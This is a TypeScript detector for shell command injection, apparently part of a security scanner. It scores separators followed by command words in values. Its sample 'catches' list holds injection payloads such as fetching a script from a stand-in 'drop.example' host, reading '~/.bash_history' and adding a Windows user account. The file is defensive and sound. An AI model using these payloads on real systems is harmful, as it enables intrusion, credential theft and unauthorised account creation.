import type { Detector, Hit, Scene } from '../../detector.ts'
import { placeOf } from '../../search.ts'
import { isDocument, isInBackticks } from '../surroundings.ts'
import {
  BUILDS,
  type CommandWord,
  continuationOf,
  isCommandLine,
  readCommand,
} from './command-words.ts'
import { isShellLine } from './shell-line.ts'

const PIPE = 0x7c
const AMPERSAND = 0x26
const MAX_HITS = 16

const FIRST_UNIT = /[;|&%]/g
/** A separator written in the clear or percent-encoded, repeats included. */
const SEPARATOR = /(?:[;|&]|%0[ad]|%3b|%26|%7c)(?:[;|&+ \t]|%0[ad]|%3b|%26|%7c|%20){0,8}/iy
/** What a value was closed with before the separator: `a)`, `test*`, `"`. */
const LEAD = /^[\s'"`()[\]{}*%@$]{0,6}[\w.%@+:*/\\-]{0,16}[\s'"`)\]}*]{0,6}$/
const LEADING_BREAK = /^['"\s]{0,3}(?:\r\n|[\r\n]|%0d%0a|%0[ad]|(?:\\r)?\\n)+/i
/** How far back the `?` or `&` of a query is looked for. */
const QUERY_UNITS = 260

/** Whether `at` stands in the query of a URL. */
function isInQuery(text: string, at: number): boolean {
  for (let back = at - 1; back >= Math.max(0, at - QUERY_UNITS); back -= 1) {
    const unit = text.charAt(back)
    if (unit === '?' || unit === '&') return true
    if (unit.trim() === '') return false
  }
  return false
}
/** `; tool -x`: whatever the tool is, nothing but a command line looks like this at the start of a value. */
const UNKNOWN_TOOL = /^["']?\w{0,12}\s?[;|&]{1,2}\s?["']?[a-z][\w-]{1,20}["']?\s-{1,2}[a-z]/i
const VARIABLE_COMMAND = /\$(?:\{\w{1,20}\}|\w{1,20})(?:[\t $](?!\s{0,3}[-+.*|?:<>]{0,2}=)|\\[ $])/y

/** Words enough to be told something: seen, and not stopped. */
function isSentence(text: string): boolean {
  const words = text.split(' ')
  return words.some(
    (word, at) =>
      /[A-Za-z]{2}$/.test(word) &&
      /^[A-Za-z]{1,20}$/.test(words[at + 1] ?? '') &&
      /^[A-Za-z/.'-]{1,30}$/.test(words[at + 2] ?? '') &&
      /^[A-Za-z]/.test(words[at + 3] ?? ''),
  )
}

/** Passes text on; a pipe into one of these is what pipes are for. */
const FILTER =
  /^(?:sed|awk|grep|egrep|jq|sort|uniq|head|tail|xargs|tee|cut|tr|wc|less|more|column|fold)$/

interface Line {
  readonly start: number
  readonly end: number
  isShell: boolean | null
  isTable: boolean | null
}

/** `'utf8' | 'base64'` and `(sh|bash|zsh)`: one of several names. */
function isAlternative(text: string, at: number, end: number): boolean {
  const before = text.slice(Math.max(0, at - 24), at)
  const after = text.slice(at + 1, end)
  if (/["']\s?$/.test(before) && /^\s?["']\w/.test(after)) return true
  return /[|(:][\w.?:\\+-]{1,20}$/.test(before) && /^[|)$]/.test(text.slice(end, end + 1))
}

const isTableRow = (line: string): boolean =>
  /^\s{0,8}\|\s[^|]{0,200}\s\|/.test(line) || (line.match(/\s\|\s/g)?.length ?? 0) >= 3

function confidenceOf(word: CommandWord, isAlone: boolean, isLead: boolean): number {
  if (word.kind === 'distinct' || word.hasPath) return isLead ? 0.9 : 0.85
  if (isAlone) return isLead ? 0.85 : 0.65
  return isLead ? 0.85 : 0.7
}

/** A program that runs what it reads, or asks who and where it is: not what a manual pipes into. */
const TELLING = /^(?:sh|bash|zsh|dash|ksh|whoami|id|nc|ncat|netcat)$/

function find(text: string, from: number, to: number, scene: Scene): readonly Hit[] {
  const hits: Hit[] = []
  // Pages are full of shell that is shown and not run; what is unmistakable has detectors of its own.
  if (isDocument(text)) return hits
  let line: Line = { start: -1, end: -1, isShell: null, isTable: null }

  const lineAt = (at: number): Line => {
    if (at > line.end || line.end === -1) {
      const end = text.indexOf('\n', at)
      const start = at === 0 ? 0 : text.lastIndexOf('\n', at - 1) + 1
      line = { start, end: end === -1 ? text.length : end, isShell: null, isTable: null }
    }
    return line
  }

  const consider = (at: number, next: number): void => {
    const word = readCommand(text, next)
    let confidence = 0
    let end = next
    if (word !== null && isCommandLine(text, word)) {
      end = word.end
      const isLead = at <= 24 && LEAD.test(text.slice(0, at))
      confidence = confidenceOf(word, continuationOf(text, word) === 'alone', isLead)
    } else {
      VARIABLE_COMMAND.lastIndex = next
      if (VARIABLE_COMMAND.test(text)) {
        end = VARIABLE_COMMAND.lastIndex
        confidence = 0.55
      } else if (at <= 14 && text.length <= 300 && UNKNOWN_TOOL.test(text.slice(0, 60))) {
        end = Math.min(text.length, next + 24)
        confidence = 0.6
      }
    }
    if (confidence === 0) return
    const separator = text.charCodeAt(at)
    if (separator === AMPERSAND && isInQuery(text, at)) return
    const hasValue = /\w/.test(text.slice(Math.max(0, at - 80), at))
    if (hasValue && word !== null && BUILDS.test(word.name)) confidence = Math.min(confidence, 0.45)
    const isSingle = separator === AMPERSAND && text.charCodeAt(at + 1) !== AMPERSAND
    if (hasValue && isSingle && text.charAt(at - 1) === ' ') confidence = Math.min(confidence, 0.6)
    if (isSentence(text.slice(Math.max(0, at - 160), at))) confidence = Math.min(confidence, 0.7)
    if (separator === PIPE && word !== null && FILTER.test(word.name)) {
      confidence = Math.min(confidence, 0.45)
    }
    const here = lineAt(at)
    if (separator === PIPE) {
      here.isTable ??= isTableRow(text.slice(here.start, Math.min(here.end, here.start + 1_000)))
      if (here.isTable || isAlternative(text, at, end)) return
    }
    if (at > here.start) {
      here.isShell ??= isShellLine(text.slice(here.start, Math.min(here.end, here.start + 200)))
      const before = text.slice(here.start, at).trim()
      if (here.isShell && before.length > 2) {
        const isTelling = word !== null && TELLING.test(word.name)
        confidence = isTelling && !/https?:/.test(before) ? 0.5 : 0.35
      }
    }
    if (isInBackticks(text, at, end)) confidence = Math.min(confidence, 0.4)
    if (scene.kind === 'prose' || scene.kind === 'description')
      confidence = Math.min(confidence, 0.7)
    hits.push({ start: at, end, confidence })
  }

  const leading = from === 0 ? LEADING_BREAK.exec(text.slice(0, 40)) : null
  if (leading !== null && text.length <= 400) consider(0, leading[0].length)
  for (
    let at = placeOf(FIRST_UNIT, text, from);
    at < to && hits.length < MAX_HITS;
    at = placeOf(FIRST_UNIT, text, at + 1)
  ) {
    SEPARATOR.lastIndex = at
    if (!SEPARATOR.test(text)) continue
    const next = SEPARATOR.lastIndex
    consider(at, next)
    at = Math.max(at, next - 1)
  }
  return hits
}

export const shellChain: Detector = {
  id: 'shell-chain',
  category: 'command_injection',
  severity: 'critical',
  confidence: 0.85,
  summary: 'a separator and a command line where a value is expected',
  needs: [],
  skipsPlain: true,
  kinds: ['text', 'json', 'path', 'url', 'sql', 'prose', 'description', 'id'],
  source: 'CWE-78; POSIX.1-2024 Shell Command Language 2.10; Windows Commands reference',
  catches: [
    'Oslo; curl http://drop.example/p.sh',
    '8.8.8.8 && uname -a',
    'report.pdf|id',
    '";cat ~/.bash_history;"',
    '%0a/usr/bin/env',
    '& net user eve Pa55 /add',
    '|| ping -n 9 127.0.0.1',
    'x & dir C:\\Windows',
    ";w'h'oami",
  ],
  ignores: [
    'Rock & roll; find me a concert; more tomorrow',
    '| id | name | type |',
    '?sort=asc&id=7&type=dir',
    'npm ci && curl -f http://localhost/health',
    { text: 'cat a.txt | grep b; ls -la', kind: 'shell' },
    'Fish &amp; chips',
    'SELECT 1; SELECT 2',
    'use `a; whoami` with care',
    "type Encoding = 'utf8' | 'base64'",
    '/(?:sh|bash|zsh)$/',
    'for (let id = 1; id <= rows; id += 1)',
    '$a = 1; $b = 2',
    '"cover": "tester --all && cat ./out.info"',
  ],
  find,
}
